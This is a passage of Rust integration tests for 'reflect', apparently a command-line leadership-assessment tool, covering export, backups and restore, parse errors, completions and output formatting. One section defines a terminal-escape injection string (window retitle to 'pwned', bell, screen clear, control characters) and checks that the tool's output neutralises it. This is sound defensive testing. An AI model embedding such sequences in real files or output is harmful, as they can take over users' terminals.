        (s1.as_str(), fw.stages[0].name.as_str())
    );
    assert_eq!(
        first[6..],
        [
            "4",
            fw.level(4).unwrap().label.as_str(),
            "private, second note",
            "yes",
            "",
            "2",
            fw.level(2).unwrap().label.as_str(),
            "Less sure, \"really\"",
            "3",
            fw.level(3).unwrap().label.as_str(),
            "",
            "Chair the board",
            "Sam Jones",
            "Director of Place",
            "2027 annual"
        ]
    );
    let stage = &fw.stages[0].name;
    let second = rows
        .iter()
        .find(|r| r[3] == s2 && r[2] == *stage)
        .expect("a row for the second pair");
    assert_eq!(
        (second[6].as_str(), second[10].as_str()),
        ("3", "yes"),
        "carried"
    );

    let o = reflect_in(
        home.path(),
        &["export", p, "--format", "csv", "--no-private"],
    );
    assert_ok(&o);
    let hidden = parse_csv(&stdout(&o));
    assert_eq!(hidden[1][8], "");
    assert_eq!(hidden[1][9], "yes");
    assert!(!stdout(&o).contains("second note"));

    // The first review: its own note, no raters, nothing carried; the
    // same columns as the current one (every rater of any review), so
    // exports of reviews and of files can be stacked.
    let header = rows[0].clone();
    let o = reflect_in(
        home.path(),
        &["export", p, "--format", "csv", "--review", "1"],
    );
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(rows[0], header);
    assert!(
        rows[1..]
            .iter()
            .all(|r| r[11..14].iter().all(String::is_empty))
    );
    assert!(rows[1..].iter().all(|r| r[20] == "2026 mid-year"));
    assert_eq!(
        rows[1][6..11],
        [
            "2",
            fw.level(2).unwrap().label.as_str(),
            "first note",
            "",
            ""
        ]
    );

    let o = reflect_in(
        home.path(),
        &["export", p, "--format", "csv", "--review", "9"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty());
}

// ------------------------------------------------- backups and restore

/// An assessment in `home` saved twice through the store as the app saves
/// (so with dated backups): notes "first" then "second". Its path and the
/// dated backups, newest first.
fn saved_twice(home: &Path) -> (PathBuf, Vec<PathBuf>) {
    let path = create(home, "senior-leadership", "Sam Backup");
    let home = Home::at(home);
    let mut doc = store::open(&home, &path).unwrap();
    for note in ["first", "second"] {
        doc.assessment
            .current_mut()
            .mark_mut("sl.place.1", "knowledge")
            .note = note.into();
        doc.save().unwrap();
    }
    let dated = store::list_backups(&home, &path)
        .into_iter()
        .filter(|b| b.kind == store::BackupKind::Dated)
        .map(|b| b.path)
        .collect();
    (path, dated)
}

fn note_in(path: &Path) -> String {
    store::load_assessment(path)
        .unwrap()
        .current()
        .mark("sl.place.1", "knowledge")
        .map(|m| m.note.clone())
        .unwrap_or_default()
}

#[test]
fn a_parse_error_says_where_the_last_good_backup_is_and_how_to_restore_it() {
    let home = tempfile::tempdir().unwrap();
    let (path, dated) = saved_twice(home.path());
    let newest = dated[0].clone();
    std::fs::write(&path, BROKEN).unwrap();
    let p = path.to_str().unwrap();
    for args in [
        vec!["summary", p],
        vec!["export", p, "--format", "csv"],
        vec![p],
    ] {
        let o = reflect_in(home.path(), &args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        let err = stderr(&o);
        assert_located(&err, &path, 6);
        let hint = err
            .lines()
            .find(|l| l.starts_with("the last good backup is "))
            .unwrap_or_else(|| panic!("{args:?}: no hint in {err:?}"));
        assert!(
            hint.starts_with(&format!(
                "the last good backup is {} (saved ",
                newest.display()
            )),
            "{hint}"
        );
        assert!(
            hint.ends_with(&format!(
                "; restore it with: reflect --home {} restore {p} {}",
                home.path().display(),
                newest.display()
            )),
            "{hint}"
        );
    }

    // The command it gives works.
    let o = reflect_in(home.path(), &["restore", p, newest.to_str().unwrap()]);
    assert_ok(&o);
    assert_eq!(note_in(&path), "second");
    assert_ok(&reflect_in(home.path(), &["summary", p]));
}

#[test]
fn a_parse_error_with_no_backup_that_reads_gives_no_hint() {
    let home = tempfile::tempdir().unwrap();
    let path = home.path().join("broken.ron");
    std::fs::write(&path, BROKEN).unwrap();
    std::fs::write(home.path().join("broken.ron.bak"), "(also broken").unwrap();
    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert_located(&stderr(&o), &path, 6);
    assert!(!stderr(&o).contains("backup"), "{}", stderr(&o));
}

#[test]
fn backups_lists_them_newest_first_and_says_which_read() {
    let home = tempfile::tempdir().unwrap();
    let (path, dated) = saved_twice(home.path());
    // The file as `reflect new` made it, then "first", then "second".
    assert_eq!(dated.len(), 3);
    std::fs::write(&dated[1], "(not: an assessment").unwrap();
    let o = reflect_in(home.path(), &["backups", "sam-backup"]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.starts_with(&format!("Backups of {}, newest first", path.display())),
        "{out}"
    );
    let rows: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("sam-backup.") && l.contains("  "))
        .collect();
    assert_eq!(rows.len(), 4, "three dated and the .bak: {out}");
    for (row, backup) in rows.iter().zip(&dated) {
        let name = backup.file_name().unwrap().to_str().unwrap();
        assert!(row.starts_with(name), "{row} / {name}");
    }
    assert!(rows[0].ends_with("yes"), "{}", rows[0]);
    assert!(rows[1].contains(" no: line 1, column"), "{}", rows[1]);
    assert!(rows[2].ends_with("yes"), "{}", rows[2]);
    assert!(
        rows[3].starts_with("sam-backup.ron.bak") && rows[3].ends_with("yes"),
        "{}",
        rows[3]
    );
    assert!(out.contains(" restore "), "{out}");
}

#[test]
fn backups_of_a_file_never_saved_says_there_are_none() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam New");
    let o = reflect_in(home.path(), &["backups", path.to_str().unwrap()]);
    assert_ok(&o);
    assert!(stdout(&o).starts_with("No backups of "), "{}", stdout(&o));
}

#[test]
fn restore_by_the_start_of_a_name_keeps_the_file_as_it_was() {
    let home = tempfile::tempdir().unwrap();
    let (path, dated) = saved_twice(home.path());
    let older = &dated[1];
    let name = older.file_name().unwrap().to_str().unwrap();
    // The time, without the stem and the zone letter and extension: two saves
    // can fall in the same hundredth of a second, so keep every digit.
    let stamp = &name["sam-backup.".len()..name.len() - "Z.ron".len()];
    let before = std::fs::read(&path).unwrap();
    let o = reflect_in(home.path(), &["restore", "sam-backup", stamp]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.starts_with(&format!(
            "Restored {} from {}.",
            path.display(),
            older.display()
        )),
        "{out}"
    );
    let kept = out
        .lines()
        .find_map(|l| l.strip_prefix("What it held before is kept as "))
        .and_then(|l| l.strip_suffix('.'))
        .unwrap_or_else(|| panic!("{out}"));
    assert_eq!(std::fs::read(kept).unwrap(), before);
    assert_eq!(std::fs::read(&path).unwrap(), std::fs::read(older).unwrap());
    assert_eq!(note_in(&path), "first");
}

#[test]
fn restore_refuses_while_the_file_is_open_and_a_backup_that_does_not_read() {
    let home = tempfile::tempdir().unwrap();
    let (path, dated) = saved_twice(home.path());
    let p = path.to_str().unwrap();
    let before = std::fs::read(&path).unwrap();

    let open = store::open(&Home::at(home.path()), &path).unwrap();
    let o = reflect_in(home.path(), &["restore", p, dated[1].to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("another reflect"), "{}", stderr(&o));
    drop(open);

    let broken = home.path().join("broken.ron");
    std::fs::write(&broken, BROKEN).unwrap();
    let o = reflect_in(home.path(), &["restore", p, broken.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_located(&stderr(&o), &broken, 6);

    let o = reflect_in(home.path(), &["restore", p, "no-such-backup"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("reflect backups"), "{}", stderr(&o));

    assert_eq!(
        std::fs::read(&path).unwrap(),
        before,
        "untouched throughout"
    );
}

// ------------------------------------------- what reaches the terminal

/// What a hostile file might hold to take over a terminal: an OSC that
/// retitles the window and rings the bell, a CSI that clears the screen,
/// a C1 CSI, a backspace, DEL and a lone carriage return.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{8}\u{7f}\rX";

/// No control character but line breaks: nothing that could start an
/// escape sequence, move the cursor or ring the bell.
#[track_caller]
fn assert_printable(what: &str, text: &str) {
    if let Some(c) = text
        .chars()
        .find(|&c| c.is_control() && c != '\n' && c != '\r')
    {
        panic!("{what} holds the control character {c:?}:\n{text:?}");
    }
    assert!(
        !text.replace("\r\n", "").contains('\r'),
        "{what} holds a carriage return that is not a line end:\n{text:?}"
    );
}

#[test]
fn reports_print_no_escape_sequences_from_the_file() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let [(s1, st1), _] = two_pairs();
    edit(&path, |a| {
        a.person.name = format!("Sam{HOSTILE}");
        a.person.role = format!("Role{HOSTILE}");
        let r = a.current_mut();
        r.title = format!("Annual{HOSTILE}");
        let coach = r.raters[0].id.clone();
        r.raters[0].name = format!("Pat{HOSTILE}");
        r.set_note(&s1, &st1, &format!("note{HOSTILE}")).unwrap();
        r.set_view_note(&s1, &st1, &coach, &format!("coach{HOSTILE}"))
            .unwrap();
    });
    let p = path.to_str().unwrap();
    for args in [
        &["summary", p][..],
        &["summary", p, "--review", "1"],
        &["summary", p, "--compare"],
        &["review", "list", p],
        &["list"],
        &["backups", p],
    ] {
        let o = reflect_in(home.path(), args);
        assert_ok(&o);
        let out = stdout(&o);
        assert_printable(&format!("reflect {}", args.join(" ")), &out);
        assert_printable(&format!("reflect {} (stderr)", args.join(" ")), &stderr(&o));
    }
    let o = reflect_in(home.path(), &["summary", p]);
    assert!(
        stdout(&o).contains("pwned"),
        "the text is shown, made harmless"
    );

    // Starting a review names the one it closes.
    let o = reflect_in(
        home.path(),
        &[
            "review",
            "start",
            p,
            "--title",
            "Next",
            "--date",
            "2028-01-01",
        ],
    );
    assert_ok(&o);
    assert!(stdout(&o).contains("Annual"));
    assert_printable("reflect review start", &stdout(&o));

    // Export to a pipe or a file is data: kept exactly, escapes and all.
    let o = reflect_in(
        home.path(),
        &["export", p, "--format", "csv", "--review", "2", "--raw"],
    );
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert!(
        rows.iter()
            .flatten()
            .any(|cell| *cell == format!("note{HOSTILE}"))
    );
}

#[test]
fn errors_print_no_escape_sequences_from_the_file() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let p = path.to_str().unwrap();
    // A single review whose title is hostile, refused by --compare.
    let single = create(home.path(), "senior-leadership", "Single");
    edit(&single, |a| {
        a.current_mut().title = format!("Only{HOSTILE}")
    });
    let o = reflect_in(
        home.path(),
        &["summary", single.to_str().unwrap(), "--compare"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("Only"), "{}", stderr(&o));
    assert_printable("the --compare refusal", &stderr(&o));

    // A framework id no reflect knows.
    edit(&path, |a| a.framework.id = format!("fw{HOSTILE}"));
    for args in [
        &["summary", p][..],
        &["review", "list", p],
        &["export", p, "--format", "csv"],
    ] {
        let o = reflect_in(home.path(), args);
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert!(stderr(&o).contains("pwned"), "{}", stderr(&o));
        assert_printable(&format!("reflect {} (stderr)", args.join(" ")), &stderr(&o));
    }
    let o = reflect_in(home.path(), &["list"]);
    assert_printable("reflect list", &stdout(&o));

    // A file that does not parse, around a hostile string.
    std::fs::write(&path, format!("(schema: 2, \"{HOSTILE}\" oops)")).unwrap();
    let o = reflect_in(home.path(), &["summary", p]);
    assert_eq!(o.status.code(), Some(2));
    assert_printable("a parse error", &stderr(&o));
}

#[test]
fn export_to_a_terminal_prints_no_escape_sequences() {
    use portable_pty::{CommandBuilder, PtySize, native_pty_system};
    use std::io::Read;

    let home = tempfile::tempdir().unwrap();
    let (path, ..) = with_first_note(home.path(), &format!("line one{HOSTILE}\nline two"));
    let pty = native_pty_system()
        .openpty(PtySize {
            rows: 50,
            cols: 200,
            pixel_width: 0,
            pixel_height: 0,
        })
        .expect("a pseudo-terminal");
    let mut cmd = CommandBuilder::new(env!("CARGO_BIN_EXE_reflect"));
    cmd.args(["--home", home.path().to_str().unwrap()]);
    cmd.args(["export", path.to_str().unwrap(), "--format", "csv", "--raw"]);
    cmd.env_remove("REFLECT_HOME");
    let mut child = pty.slave.spawn_command(cmd).expect("reflect starts");
    drop(pty.slave);
    let mut reader = pty.master.try_clone_reader().unwrap();
    let collect = std::thread::spawn(move || {
        let mut out = Vec::new();
        let mut buf = [0u8; 8192];
        while let Ok(n) = reader.read(&mut buf) {
            if n == 0 {
                break;
            }
            out.extend_from_slice(&buf[..n]);
        }
        out
    });
    assert!(child.wait().unwrap().success());
    drop(pty.master);
    let out = String::from_utf8(collect.join().unwrap()).unwrap();
    assert!(out.contains("line one"), "{out:?}");
    assert!(out.contains("pwned"), "{out:?}");
    // The terminal turns each \n into \r\n; nothing else may be a control.
    assert_printable("export to a terminal", &out.replace("\r\r\n", "\r\n"));
}

// ------------------------------------------------------ keys given twice

/// An assessment whose current review's marks are `marks`, written from
/// line 9 on, one entry a line, each indented by 8 spaces.
fn with_marks(dir: &Path, marks: &[&str]) -> PathBuf {
    let path = dir.join("twice.ron");
    let mut text = String::from(
        "(\n  schema: 2,\n  framework: (id: \"senior-leadership\", version: \"2025.1\"),\n  \
         person: (name: \"Sam Twice\"),\n  reviews: [\n    (\n      title: \"2026 review\",\n      \
         date: \"2026-01-01\",\n      marks: {\n",
    );
    for m in marks {
        text.push_str(&format!("        {m},\n"));
    }
    text.push_str("      },\n    ),\n  ],\n)\n");
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn a_standard_twice_in_marks_is_an_error_at_the_second() {
    let home = tempfile::tempdir().unwrap();
    let path = with_marks(
        home.path(),
        &[
            r#""sl.place.1": {"knowledge": (rating: Level(2))}"#,
            r#""sl.place.2": {"knowledge": (rating: Level(3))}"#,
            r#""sl.place.1": {"experience": (rating: Level(4))}"#,
        ],
    );
    let before = std::fs::read(&path).unwrap();
    for args in [
        &["summary"][..],
        &["export", "--format", "csv"],
        &["review", "list"],
    ] {
        let mut args = args.to_vec();
        args.insert(
            args.len().min(if args[0] == "review" { 2 } else { 1 }),
            path.to_str().unwrap(),
        );
        let o = reflect_in(home.path(), &args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stdout(&o));
        let err = stderr(&o);
        let first = err.lines().next().unwrap();
        assert!(
            first.starts_with(&format!("{}:12:9: ", path.display())),
            "at the second \"sl.place.1\": {err}"
        );
        assert!(first.contains("sl.place.1"), "{err}");
        assert!(first.contains("twice"), "{err}");
    }
    assert_eq!(
        std::fs::read(&path).unwrap(),
        before,
        "the file is left alone"
    );
}

#[test]
fn a_stage_twice_under_one_standard_is_an_error_at_the_second() {
    let home = tempfile::tempdir().unwrap();
    let path = with_marks(
        home.path(),
        &[
            r#""sl.place.1": {"knowledge": (rating: Level(2)), "experience": (rating: Level(3)), "knowledge": (note: "mine")}"#,
        ],
    );
    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.starts_with(&format!("{}:10:91: ", path.display())),
        "at the second \"knowledge\": {err}"
    );
    assert!(err.contains("knowledge"), "{err}");
}

#[test]
fn validate_refuses_a_rename_given_twice() {
    let home = tempfile::tempdir().unwrap();
    let text = include_str!("../data/frameworks/senior-leadership.ron");
    let at = text.rfind("\n)").expect("the framework's closing bracket");
    let mut framework = text[..at].to_owned();
    if !framework.trim_end().ends_with(',') {
        framework.push(',');
    }
    let line = framework.lines().count() + 2;
    framework.push_str(
        "\n  renames: {\n    \"sl.old\": \"sl.place.1\",\n    \"sl.old\": \"sl.place.2\",\n  },\n)\n",
    );
    let path = home.path().join("twice.ron");
    std::fs::write(&path, &framework).unwrap();
    let o = reflect_in(home.path(), &["validate", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.starts_with(&format!("{}:{}:5: ", path.display(), line + 1)),
        "at the second \"sl.old\": {err}"
    );
    assert!(err.contains("sl.old"), "{err}");
}

// ------------------------------------------------- levels off the scale

#[test]
fn a_level_off_the_scale_is_an_error_where_it_is() {
    let home = tempfile::tempdir().unwrap();
    let entry = r#""sl.place.1": {"knowledge": (rating: Level(2)), "judgement": (rating: Level(9), note: "nine")}"#;
    let path = with_marks(
        home.path(),
        &[r#""sl.place.2": {"knowledge": (rating: Level(3))}"#, entry],
    );
    let col = 8 + entry.find("Level(9)").unwrap() + 1;
    let before = std::fs::read(&path).unwrap();
    let p = path.to_str().unwrap();
    // The commands that read, and the app, which opens it before the terminal.
    for args in [&["summary", p][..], &["export", p, "--format", "csv"], &[p]] {
        let o = reflect_in(home.path(), args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stdout(&o));
        let err = stderr(&o);
        assert!(
            err.starts_with(&format!("{}:11:{col}: ", path.display())),
            "{args:?}: at Level(9): {err}"
        );
        assert!(err.contains('9') && err.contains("scale"), "{err}");
    }
    assert_eq!(
        std::fs::read(&path).unwrap(),
        before,
        "the file is left alone"
    );

    // Another rater's level and an agreed level are checked too.
    let entry = r#""sl.place.1": {"knowledge": (rating: Level(2), agreed: Level(0))}"#;
    let path = with_marks(home.path(), &[entry]);
    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let col = 8 + entry.find("Level(0)").unwrap() + 1;
    assert!(
        stderr(&o).starts_with(&format!("{}:10:{col}: ", path.display())),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_level_off_the_scale_in_a_closed_review_is_an_error_in_its_own_file() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let reviews = path.with_extension("reviews");
    let closed = std::fs::read_dir(&reviews)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "ron"))
        .expect("the closed review's file");
    let text = std::fs::read_to_string(&closed).unwrap();
    let at = text.find("Level(2)").expect("the closed review's level 2");
    std::fs::write(&closed, text.replacen("Level(2)", "Level(7)", 1)).unwrap();
    let line = text[..at].matches('\n').count() + 1;
    let col = at - text[..at].rfind('\n').map_or(0, |i| i + 1) + 1;
    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(
        stderr(&o).starts_with(&format!("{}:{line}:{col}: ", closed.display())),
        "{}",
        stderr(&o)
    );
}

/// `reflect FILE` with no terminal checks the file and stops: a file that
/// opening would bring up to date with its framework is left exactly as it
/// was, with no lock, no backup and nothing remembered.
#[test]
fn opening_without_a_terminal_migrates_and_writes_nothing() {
    let home = tempfile::tempdir().unwrap();
    let fw = reflect::format::framework::by_id("senior-leadership")
        .unwrap()
        .unwrap();
    let store_home = reflect::store::Home::at(home.path());
    let path = reflect::store::new_assessment(&store_home, &fw, "Jo", "", None).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    let old = text.replace(
        &format!("version: \"{}\"", fw.version),
        "version: \"0.1-older\"",
    );
    assert_ne!(old, text, "the framework version is in the file");
    std::fs::write(&path, &old).unwrap();
    let before: Vec<_> = std::fs::read_dir(home.path().join("assessments"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    let o = reflect_in(home.path(), &[path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("needs a terminal"), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), old);
    let after: Vec<_> = std::fs::read_dir(home.path().join("assessments"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(after, before, "no lock, backup or other file made");
    assert!(!home.path().join("state.ron").exists());
    assert!(!home.path().join("backups").exists());
}

/// `reflect keys` prints a keys file a user can copy: it reads back as the
/// defaults, names every action, and says where keys.ron and theme.ron go.
#[test]
fn keys_prints_the_defaults_as_a_keys_file_and_where_it_goes() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("my-config");
    let out = reflect_in(home.path(), &["--config", config.to_str().unwrap(), "keys"]);
    assert_ok(&out);
    let text = stdout(&out);
    let mut keymap = reflect::keys::Keymap::default();
    keymap.overlay(&text).unwrap();
    assert_eq!(keymap, reflect::keys::Keymap::default());
    for action in reflect::keys::ACTIONS {
        assert!(text.contains(&format!("//   {action:?} ")), "{action:?}");
    }
    assert!(text.contains(&config.join("keys.ron").display().to_string()));
    assert!(text.contains(&config.join("theme.ron").display().to_string()));
}

/// `reflect keys` also checks the user's own files, as the app reads them:
/// a broken one is named with PATH:LINE:COL (on stdout and stderr), a good
/// one is said to be in use.
#[test]
fn keys_checks_the_user_s_keys_and_theme_files() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("cfg");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("keys.ron"),
        "{\n  browse: {\n    \"w\": Qit,\n  },\n}\n",
    )
    .unwrap();
    std::fs::write(config.join("theme.ron"), "(base: \"light\")").unwrap();
    let out = reflect_in(home.path(), &["--config", config.to_str().unwrap(), "keys"]);
    assert_ok(&out);
    let text = stdout(&out);
    let keys = config.join("keys.ron").display().to_string();
    assert!(
        text.contains(&format!("Default keys in use: {keys}:3:")),
        "{text}"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains(&format!("{keys}:3:")));
    let theme = config.join("theme.ron").display().to_string();
    assert!(
        text.contains(&format!("{theme} is read and in use")),
        "{text}"
    );
    assert!(
        !text.contains(&format!("{keys} is read and in use")),
        "{text}"
    );
}

/// What reflect offers a shell for `words` (the last one being typed), as
/// clap's fish protocol gives it: one candidate a line, a tab before help.
fn offered(home: &Path, shell: &str, words: &[&str]) -> Vec<String> {
    let o = Command::new(env!("CARGO_BIN_EXE_reflect"))
        .arg("--")
        .args(words)
        .env("COMPLETE", shell)
        .env("REFLECT_HOME", home)
        .stdin(Stdio::null())
        .output()
        .expect("run reflect");
    assert_ok(&o);
    stdout(&o)
        .lines()
        .map(|l| l.split('\t').next().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn completions_for_every_shell_offer_commands_framework_ids_and_assessment_names() {
    let home = tempfile::tempdir().unwrap();
    create(home.path(), "senior-leadership", "Alex Example");
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let o = reflect_in(home.path(), &["completions", shell]);
        assert_ok(&o);
        let script = stdout(&o);
        // The script asks reflect itself, so what it offers is never stale.
        assert!(script.contains("COMPLETE"), "{shell}: {script}");
        assert!(
            script.contains(env!("CARGO_BIN_EXE_reflect")),
            "{shell}: {script}"
        );
    }
    // What reflect answers the shell: commands, the framework ids, and the
    // assessments in the home folder by name wherever a command takes a FILE.
    let line = |words: &[&str]| offered(home.path(), "fish", words).join(" ");
    assert!(line(&["reflect", "su"]).contains("summary"));
    assert_eq!(
        offered(home.path(), "fish", &["reflect", "new", "--framework", ""]),
        ["senior-leadership", "chief-executives"]
    );
    for command in ["summary", "export", "backups"] {
        assert!(
            line(&["reflect", command, "al"]).contains("alex-example.ron"),
            "{command}"
        );
    }
    // Each shell's own form of the answer holds them too.
    for shell in ["zsh", "elvish", "powershell"] {
        let o = Command::new(env!("CARGO_BIN_EXE_reflect"))
            .args(["--", "reflect", "new", "--framework", "c"])
            .env("COMPLETE", shell)
            .env("_CLAP_COMPLETE_INDEX", "3")
            .env("_CLAP_IFS", "\n")
            .output()
            .expect("run reflect");
        assert!(
            stdout(&o).contains("chief-executives"),
            "{shell}: {}",
            stdout(&o)
        );
    }
    // In a real bash, as its completion machinery calls it.
    let bash = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "source <('{}' completions bash); COMP_WORDS=(reflect summary al); COMP_CWORD=2; \
             COMP_TYPE=9; _clap_complete_reflect reflect al summary; printf '%s\\n' \"${{COMPREPLY[@]}}\"",
            env!("CARGO_BIN_EXE_reflect")
        ))
        .env("REFLECT_HOME", home.path())
        .output()
        .expect("bash runs");
    assert_eq!(
        stdout(&bash).trim(),
        "alex-example.ron",
        "{}",
        stderr(&bash)
    );
    // The ids are offered, not required: a framework of your own still works.
    let o = reflect_in(
        home.path(),
        &["new", "--framework", "our-own", "--name", "X"],
    );
    assert!(
        stderr(&o).contains("unknown framework \"our-own\""),
        "{}",
        stderr(&o)
    );
}

#[test]
fn man_prints_a_manual_page() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(home.path(), &["man"]);
    assert_ok(&o);
    let page = stdout(&o);
    assert!(page.contains(".TH reflect 1"), "{page}");
    for word in ["summary", "export", "completions"] {
        assert!(page.contains(word), "the page lacks {word}");
    }
}

#[test]
fn a_mistyped_command_gets_a_suggestion() {
    let home = tempfile::tempdir().unwrap();
    for (typed, meant) in [
        ("lsit", "list"),
        ("sumary", "summary"),
        ("exprot", "export"),
        ("frameworx", "frameworks"),
    ] {
        let o = reflect_in(home.path(), &[typed]);
        assert_eq!(o.status.code(), Some(2), "{typed}");
        assert_eq!(
            stderr(&o).trim(),
            format!("reflect: no such file '{typed}'; did you mean `reflect {meant}`?")
        );
    }
    // Not close to any command: only that the file is not there.
    let o = reflect_in(home.path(), &["zzzzzz"]);
    assert!(!stderr(&o).contains("did you mean"), "{}", stderr(&o));
}

#[test]
fn json_gives_the_same_facts_as_the_text() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let p = path.to_str().unwrap();
    let json = |args: &[&str]| -> serde_json::Value {
        let o = reflect_in(home.path(), args);
        assert_ok(&o);
        serde_json::from_str(&stdout(&o)).unwrap_or_else(|e| panic!("{args:?}: {e}"))
    };
    let list = json(&["list", "--json"]);
    assert_eq!(list[0]["person"], "Sam Jones");
    // The path to open, and the time as RFC 3339 with its offset.
    assert_eq!(list[0]["path"].as_str().unwrap(), p);
    let changed = list[0]["changed"].as_str().unwrap();
    assert!(
        changed.parse::<jiff::Timestamp>().is_ok(),
        "not RFC 3339: {changed}"
    );
    assert_eq!(list[0]["framework"], "senior-leadership");
    let text = stdout(&reflect_in(home.path(), &["list"]));
    assert!(text.contains(&format!("{}/{}", list[0]["rated"], list[0]["total"])));

    let frameworks = json(&["frameworks", "--json"]);
    let ids: Vec<&str> = frameworks
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["senior-leadership", "chief-executives"]);

    let summary = json(&["summary", p, "--json"]);
    assert_eq!(summary["person"]["name"], "Sam Jones");
    assert_eq!(summary["review"]["number"], 2);
    assert_eq!(summary["themes"].as_array().unwrap().len(), 8);
    let total = &summary["total"];
    let text = stdout(&reflect_in(home.path(), &["summary", p]));
    assert!(
        text.contains(&format!("{}/{}", total["rated"], total["total"])),
        "{text}"
    );

    let reviews = json(&["review", "list", p, "--json"]);
    assert_eq!(reviews.as_array().unwrap().len(), 2);
    assert_eq!(reviews[1]["number"], 2);
    assert!(reviews[1]["rated"].is_u64() && reviews[1]["total"].is_u64());
    assert_eq!(list[0]["total"], 168);
    assert!(frameworks[0]["themes"].is_u64());
    assert_eq!(reviews[1]["title"], "2027 annual");

    let backups = json(&["backups", p, "--json"]);
    let newest = &backups[0];
    assert!(std::path::Path::new(newest["path"].as_str().unwrap()).is_file());
    assert!(newest["size"].as_u64().unwrap() > 0);
    let saved = newest["saved"].as_str().unwrap();
    assert!(saved.parse::<jiff::Timestamp>().is_ok(), "{saved}");
}

/// Display width, as a terminal counts it.
fn columns_of(s: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(s)
}

#[test]
fn tables_line_up_in_screen_columns_and_fit_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    // Chinese (two columns a character), an emoji, and Welsh with its
    // accents written as separate marks (no column of their own).
    for name in ["张伟", "Zoë 🌟 Example", "Sia\u{302}n Llyr\u{302}"] {
        create(home.path(), "senior-leadership", name);
    }
    let text = stdout(&reflect_in(home.path(), &["list"]));
    let at: Vec<usize> = text
        .lines()
        .map(|line| {
            let i = line
                .find("senior-leadership")
                .or_else(|| line.find("FRAMEWORK"))
                .unwrap_or_else(|| panic!("{line}"));
            columns_of(&line[..i])
        })
        .collect();
    assert!(at.windows(2).all(|w| w[0] == w[1]), "{text}");
    // COLUMNS narrows it: no line is wider.
    let o = Command::new(env!("CARGO_BIN_EXE_reflect"))
        .args(["--home", home.path().to_str().unwrap(), "list"])
        .env("COLUMNS", "60")
        .output()
        .unwrap();
    let narrow = stdout(&o);
    assert!(narrow.lines().all(|l| columns_of(l) <= 60), "{narrow}");
    assert!(!narrow.contains('…'), "nothing needed cutting: {narrow}");
    // The least needed columns go, so the rest stays readable: the names
    // are whole, and it says what was left out.
    for name in ["张伟", "Zoë 🌟 Example"] {
        assert!(narrow.contains(name), "{narrow}");
    }
    let header = narrow.lines().next().unwrap();
    assert!(!header.contains("REVIEW"), "{narrow}");
    assert!(
        header.contains("ROLE") && header.contains("RATED"),
        "{narrow}"
    );
    assert!(
        narrow.contains("(FRAMEWORK, REVIEW, CHANGED left out to fit 60 columns)"),
        "{narrow}"
    );
}

/// A review planned ahead closes the current one today: it is read-only
/// from now on, and a check-in before the planned date stays possible.
#[test]
fn a_review_started_ahead_closes_the_current_one_today() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam Jones");
    let p = path.to_str().unwrap();
    let o = reflect_in(
        home.path(),
        &[
            "review",
            "start",
            p,
            "--title",
            "Planned",
            "--date",
            "2999-01-01",
        ],
    );
    assert_ok(&o);
    let a = store::load_assessment(&path).unwrap();
    assert_eq!(a.reviews[0].frozen, Some(jiff::Zoned::now().date()));
    assert_eq!(a.current().date, date(2999, 1, 1));
}

/// A name that is no file and no assessment says where reflect looked.
#[test]
